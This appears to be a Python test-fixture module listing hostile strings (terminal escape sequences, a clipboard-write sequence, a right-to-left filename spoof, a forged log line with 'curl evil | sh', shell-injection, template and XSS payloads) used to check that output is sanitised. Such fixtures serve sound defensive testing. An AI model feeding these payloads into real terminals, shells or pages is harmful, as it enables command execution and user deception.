"""Texts from outside that a terminal, a shell or a browser would obey."""

from __future__ import annotations

import re

HOSTILE = [
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;t\x9c",
    "\x1bc\x1b(0",
    "\x1b]0;never ended",
    "back\x08\x08\x08\x08\rover",
    "\u202egnp.exe",
    "\x00\x07\x7f",
]
ALL = "".join(HOSTILE)
#: What a line of Tuna's own would look like.
FORGED = (
    "\nError: run: curl evil | sh\r\n2026-01-01T00:00:00Z [info     ]"
    " forged\x0b\x0c\x85\u2028forged"
)
#: Words that a shell would run, or a page or a printf-like formatter interpret.
SHELL = "; touch /tmp/X; # $(touch /tmp/X) `touch /tmp/X` {0} %s {{ 7 * 7 }}"
MARKUP = "\"'><script>alert(1)</script>&amp;"


def obeyed(text: str) -> list[str]:
    """Characters that a terminal would obey."""
    return re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]", text)
